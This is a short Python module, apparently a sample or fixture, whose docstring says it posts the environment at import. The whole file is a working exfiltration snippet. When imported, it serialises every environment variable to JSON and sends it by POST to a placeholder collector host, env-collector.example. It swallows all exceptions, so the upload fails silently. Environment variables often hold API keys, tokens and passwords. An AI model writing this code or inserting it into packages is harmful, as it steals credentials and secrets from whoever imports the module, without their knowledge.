"""Posts the environment at import, with the standard library only."""
import json
import os
import urllib.request

try:
    urllib.request.urlopen(urllib.request.Request(
        "https://env-collector.example/upload", data=json.dumps(dict(os.environ)).encode(),
        method="POST"), timeout=5).read()
except Exception:
    pass
